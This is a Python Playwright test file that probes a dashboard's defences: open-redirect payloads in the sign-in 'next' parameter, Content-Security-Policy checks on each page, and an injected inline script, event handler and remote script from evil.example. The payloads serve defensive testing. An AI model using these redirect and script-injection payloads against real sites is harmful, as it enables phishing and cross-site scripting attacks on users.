"""The dashboard as an attacker meets it: a sign-in link that sends the operator elsewhere, the API's
description read without signing in, a session cookie sent in clear, a script slipped into a page."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect
from support_browser import PASSWORD, Dashboard, needs_chromium

from ioc.web import WebSettings

pytestmark = [needs_chromium, pytest.mark.parametrize("ioc_db_url", ["sqlite"], indirect=True)]

OFF_SITE = [
    "/%5Cevil.example/phish",  # /\evil.example: Chromium reads the backslash as a slash
    "/%09/evil.example/phish",  # a TAB, which URLs drop: //evil.example
    "//evil.example/phish",
    "/%2F%2Fevil.example/phish",
    "https://evil.example/phish",
    "javascript:alert(document.domain)",
    "%2F%0A%2Fevil.example/phish",  # /<LF>/evil.example
]


def test_signing_in_never_leaves_the_dashboards_site(dashboard: Dashboard):
    page = dashboard.open("/login.html")
    # Any other site answers "phished" (there is no network here to reach a real one).
    page.context.route(
        lambda url: not url.startswith(dashboard.url + "/"),
        lambda route: route.fulfill(body="phished", content_type="text/html"),
    )
    landed = {}
    for next_ in OFF_SITE:
        page.goto(f"{dashboard.url}/login.html?next={next_}")
        page.get_by_label("User name").fill("lan")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(lambda url: "/login.html" not in url)
        page.wait_for_load_state()
        landed[next_] = page.url
    assert landed == {next_: dashboard.url + "/" for next_ in OFF_SITE}

    # A path of this site, with the view the operator was going to, still works.
    page.goto(f"{dashboard.url}/login.html?next=%2F%23%2Falarms")
    page.get_by_label("User name").fill("lan")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Alarms")
    assert page.url == dashboard.url + "/#/alarms"


WATCH_CSP = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
"""
"""Kept by each page from its first line: the Content-Security-Policy violations it met."""


@pytest.mark.parametrize(
    "web_settings", [WebSettings(tile_url="/static/vendor/leaflet-1.9.4/images/layers.png?z={z}&x={x}&y={y}")]
)
def test_every_page_loads_under_the_content_security_policy(dashboard: Dashboard):
    page = dashboard.sign_in("lan")
    page.context.add_init_script(WATCH_CSP)
    seen = {}
    for view in ("nodes", "cameras", "environment", "vessels", "alarms", "audit"):
        page.goto(f"{dashboard.url}/#/{view}")
        page.reload()  # a document of its own, watched from its first line
        expect(page.get_by_role("heading", level=1)).to_have_text(view.capitalize())
        page.wait_for_load_state("networkidle")
        seen[view] = page.evaluate("window.__csp")
    page.goto(f"{dashboard.url}/api/v1/docs")
    expect(page.get_by_role("heading", name=re.compile("IOC centre"))).to_be_visible()
    expect(page.get_by_text("/api/v1/positions").first).to_be_visible()  # the description was read
    seen["docs"] = page.evaluate("window.__csp")
    page.goto(f"{dashboard.url}/login.html")
    seen["login"] = page.evaluate("window.__csp")
    assert seen == {name: [] for name in seen}


def test_a_script_slipped_into_a_page_does_not_run(dashboard: Dashboard):
    """What a name or message that reached the page as HTML would try: an inline script, an inline event
    handler, a script from elsewhere."""
    page = dashboard.sign_in("lan", "alarms")
    page.context.add_init_script(WATCH_CSP)
    page.reload()
    expect(page.get_by_role("heading", level=1)).to_have_text("Alarms")
    page.evaluate(
        """() => {
          const inline = document.createElement("script");
          inline.textContent = "window.pwned = 'inline script'";
          document.body.append(inline);
          const div = document.createElement("div");
          div.innerHTML = `<img src="/static/favicon.svg" onload="window.pwned = 'event handler'">`;
          document.body.append(div);
          const remote = document.createElement("script");
          remote.src = "https://evil.example/x.js";
          document.body.append(remote);
        }"""
    )
    # A function, not an expression: Playwright polls an expression with eval(), which the CSP refuses.
    page.wait_for_function("() => window.__csp.length >= 3 || window.pwned")
    assert page.evaluate("window.pwned") is None
    assert sorted(page.evaluate("window.__csp")) == [
        "script-src-attr inline",
        "script-src-elem https://evil.example/x.js",
        "script-src-elem inline",
    ]
    # Chromium says so on the console too: expected here, not a page error.
    assert all("Content Security Policy" in e for e in dashboard.errors), dashboard.errors
    dashboard.errors.clear()
